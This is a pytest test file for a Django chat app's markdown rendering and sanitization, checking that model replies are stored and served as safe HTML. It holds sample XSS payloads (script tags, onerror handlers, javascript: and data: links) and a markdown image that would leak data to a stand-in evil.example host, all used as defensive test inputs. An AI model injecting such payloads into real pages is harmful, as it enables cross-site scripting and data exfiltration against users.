import importlib
from html.parser import HTMLParser

import pytest
from django.apps import apps

from conversations import services
from conversations.models import ContentItem
from conversations.rendering import render_markdown
from conversations.services.messages import announce_finished
from tests.factories import make_conversation, make_message


def test_markdown_basics_render():
    html = render_markdown("# Title\n\nSome **bold** and a [link](https://example.com).")
    assert "<h1>Title</h1>" in html
    assert "<strong>bold</strong>" in html
    assert '<a href="https://example.com" rel="noopener noreferrer nofollow">link</a>' in html


LINK = '<a href="{href}" rel="noopener noreferrer nofollow">{text}</a>'


@pytest.mark.parametrize(
    "text, href, shown",
    [
        ("see https://example.com/docs?a=1&b=2.", "https://example.com/docs?a=1&amp;b=2", None),
        (
            "(at https://en.wikipedia.org/wiki/Pi_(letter))",
            "https://en.wikipedia.org/wiki/Pi_(letter)",
            None,
        ),
        ("*http://example.org/x*, then", "http://example.org/x", None),
        ("go to www.example.com!", "https://www.example.com", "www.example.com"),
    ],
)
def test_bare_urls_become_links(text, href, shown):
    html = render_markdown(text)
    assert LINK.format(href=href, text=shown or href) in html


@pytest.mark.parametrize(
    "text",
    [
        "javascript:alert(1)",
        "data:text/html,<b>hi</b>",
        "vbscript:msgbox(1)",
        "`https://example.com/in-code`",
        "```\nhttps://example.com/in-a-block\n```",
        "http:// and www. alone",
    ],
)
def test_only_http_addresses_outside_code_become_links(text):
    assert "<a " not in render_markdown(text)


def test_a_link_with_an_address_as_its_text_is_linked_once():
    html = render_markdown("[https://example.com](https://example.org)")
    assert html.count("<a ") == 1
    assert 'href="https://example.org"' in html


def test_code_blocks_are_highlighted_with_a_copy_button():
    html = render_markdown('```python\nprint("<b>")\n```')
    assert 'class="codeblock-lang">python<' in html
    assert '<button type="button" class="copy-code"' in html
    assert '<span class="nb">print</span>' in html
    assert "&lt;b&gt;" in html and "<b>" not in html


def test_unknown_language_still_renders_escaped():
    html = render_markdown("```nosuchlang\n<script>x</script>\n```")
    assert "&lt;script&gt;" in html
    assert "<script>" not in html


def test_tables_render_with_alignment_only():
    html = render_markdown("| a | b |\n|--:|---|\n| 1 | 2 |")
    assert "<table>" in html
    assert '<td class="align-right">1</td>' in html
    assert "style=" not in html


def test_math_becomes_mathml():
    html = render_markdown("Inline $x^2$ and\n\n$$\n\\frac{1}{2}\n$$")
    assert '<math xmlns="http://www.w3.org/1998/Math/MathML" display="inline">' in html
    assert "<msup><mi>x</mi><mn>2</mn></msup>" in html
    assert 'display="block"' in html and "<mfrac>" in html


def test_dollar_amounts_stay_text():
    html = render_markdown("It costs $5 and $10.")
    assert "<math" not in html
    assert "$5 and $10." in html


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[click](javascript:alert(1))",
        '<a href="https://x" onclick="alert(1)">x</a>',
        "<iframe src=https://evil></iframe>",
        "$\\href{javascript:alert(1)}{x}$",
        "[click](data:text/html,<b>x</b>)",
        "[click](data:image/png;base64,iVBORw0KGgo=)",
        "<data:image/png;base64,iVBORw0KGgo=>",
        "[click][ref]\n\n[ref]: DATA:image/gif;base64,R0lGOD==",
    ],
)
def test_untrusted_html_never_survives(payload):
    elements = parse_elements(render_markdown(payload))
    assert not {tag for tag, _ in elements} & {"script", "img", "iframe"}
    for _, attrs in elements:
        assert not [name for name in attrs if name.startswith("on")]
        assert not attrs.get("href", "").lower().startswith(("javascript", "data"))


def test_markdown_images_become_links_so_urls_are_not_fetched():
    html = render_markdown("![secret](https://evil.example/leak?q=data)")
    assert "<img" not in html
    assert 'href="https://evil.example/leak?q=data"' in html


def parse_elements(html: str) -> list[tuple[str, dict]]:
    """The elements a browser would build from `html`, as (tag, attributes)."""
    elements = []

    class Collector(HTMLParser):
        def handle_starttag(self, tag, attrs):
            elements.append((tag, dict(attrs)))

    Collector().feed(html)
    return elements


def test_the_api_gives_model_text_as_sanitized_html_and_keeps_the_text(client, alice):
    from tests.factories import make_conversation, make_message

    conversation = make_conversation(alice)
    question = make_message(conversation, text="<b>hi</b>")
    answer = make_message(
        conversation, question, role="assistant", text="**Sure** <img src=x onerror=alert(1)>"
    )
    conversation.current_leaf = answer
    conversation.save()
    client.force_login(alice)
    messages = client.get(f"/api/conversations/{conversation.id}/").json()["messages"]

    user_item, model_item = messages[0]["content"][0], messages[1]["content"][0]
    assert "html" not in user_item  # user text is shown as text, never as HTML
    assert user_item["text"] == "<b>hi</b>"
    assert model_item["text"] == "**Sure** <img src=x onerror=alert(1)>"
    assert "<strong>Sure</strong>" in model_item["html"]
    assert not [tag for tag, _ in parse_elements(model_item["html"]) if tag == "img"]


def test_html_smuggled_in_through_an_import_is_never_served(client, alice):
    client.force_login(alice)
    exported = {
        "format": "chatproject.conversation",
        "version": 1,
        "conversation": {"title": "Imported"},
        "messages": [
            {"id": "1", "parent_id": None, "role": "user", "status": "completed",
             "content": [{"type": "input_text", "text": "hi", "html": "<script>x()</script>"}]},
            {"id": "2", "parent_id": "1", "role": "assistant", "status": "completed",
             "content": [{"type": "output_text", "text": 5, "html": "<script>y()</script>"},
                         {"type": "plan", "html": "<script>z()</script>"}]},
        ],
    }  # fmt: skip
    response = client.post("/api/conversations/import/", exported, content_type="application/json")
    assert response.status_code == 201, response.json()
    conversation_id = response.json()["id"]
    served = client.get(f"/api/conversations/{conversation_id}/").content.decode()
    assert "<script>" not in served and "\\u003cscript" not in served
    share = client.post(f"/api/conversations/{conversation_id}/shares/", {}, "application/json")
    page = client.get(f"/s/{share.json()['token']}/").content.decode()
    assert "<script>" not in page


# Rendered once: model text is stored with its HTML, and reads serve that.

MARKDOWN = "Some **bold**, a table:\n\n| a | b |\n|--:|---|\n| 1 | 2 |\n\n```python\nx = 1\n```"
REPLY_CONTENT = [{"type": "output_text", "text": MARKDOWN, "annotations": []}]


def stored_html(message) -> list:
    return [(item.text, item.html) for item in message.content.order_by("index")]


@pytest.fixture
def running_reply(alice):
    """A reply whose runner has checkpointed MARKDOWN so far."""
    conversation = make_conversation(alice)
    question = make_message(conversation, text="Show me")
    reply = make_message(conversation, question, role="assistant", status="in_progress")
    services.reply_checkpoint(reply_id=reply.id, content=REPLY_CONTENT)
    assert stored_html(reply) == [(MARKDOWN, "")]  # checkpoints never render
    return reply


def test_a_finished_reply_is_stored_with_the_html_of_its_text(running_reply):
    services.reply_finish(reply_id=running_reply.id, content=REPLY_CONTENT, status="completed")
    assert stored_html(running_reply) == [(MARKDOWN, render_markdown(MARKDOWN))]


def test_a_reply_ended_without_a_finish_is_stored_with_the_html_of_what_arrived(running_reply):
    # What ends a reply whose process died (its recovery), once it is marked incomplete.
    announce_finished(running_reply.id)
    assert stored_html(running_reply) == [(MARKDOWN, render_markdown(MARKDOWN))]


def test_the_welcome_message_and_imports_are_stored_with_their_html(alice, settings):
    settings.CHAT_WELCOME_MESSAGE = MARKDOWN
    welcome = services.conversation_create(owner=alice).current_leaf
    assert stored_html(welcome) == [(MARKDOWN, render_markdown(MARKDOWN))]
    imported = services.conversation_import(
        owner=alice,
        data={
            "format": "chatproject.conversation",
            "version": 1,
            "conversation": {},
            "messages": [
                {
                    "id": "1",
                    "role": "assistant",
                    "content": [{"type": "output_text", "text": MARKDOWN}],
                }
            ],
        },
    )
    assert stored_html(imported.current_leaf) == [(MARKDOWN, render_markdown(MARKDOWN))]


def test_every_read_serves_the_stored_html_without_rendering_again(client, alice):
    conversation = make_conversation(alice)
    question = make_message(conversation, text="Show me")
    answer = make_message(conversation, question, role="assistant", text=MARKDOWN)
    conversation.current_leaf = answer
    conversation.save()
    # Whatever is stored is what every reader gets: nothing renders the text again.
    ContentItem.objects.filter(message=answer).update(html="<p>stored</p>")
    share = services.share_create(conversation=conversation, user=alice, message=answer)
    client.force_login(alice)

    def served(url, *path):
        body = client.get(url).json()
        for key in path:
            body = body[key]
        return body["content"][0]["html"]

    assert served(f"/api/conversations/{conversation.id}/", "messages", -1) == "<p>stored</p>"
    assert served(f"/api/conversations/{conversation.id}/messages/", "messages", -1) == (
        "<p>stored</p>"
    )
    assert served(f"/api/messages/{answer.id}/") == "<p>stored</p>"
    assert served(f"/api/shared/{share.token}/", "messages", -1) == "<p>stored</p>"
    assert "<p>stored</p>" in client.get(f"/s/{share.token}/").content.decode()
    assert "\\u003Cp\\u003Estored" in client.get(f"/c/{conversation.id}/").content.decode()


def test_text_stored_before_html_was_kept_gets_it_from_the_migration(alice):
    migration = importlib.import_module("conversations.migrations.0005_contentitem_html")
    conversation = make_conversation(alice)
    question = make_message(conversation, text="Show me")
    answer = make_message(conversation, question, role="assistant", text=MARKDOWN)
    ContentItem.objects.create(message=answer, index=1, type="output_text", data={"text": 5})
    assert [html for _, html in stored_html(answer)] == ["", ""]

    migration.render_stored_text(apps, None)
    assert stored_html(answer) == [(MARKDOWN, render_markdown(MARKDOWN)), ("", "")]
    assert stored_html(question) == [("Show me", "")]  # user text is never HTML
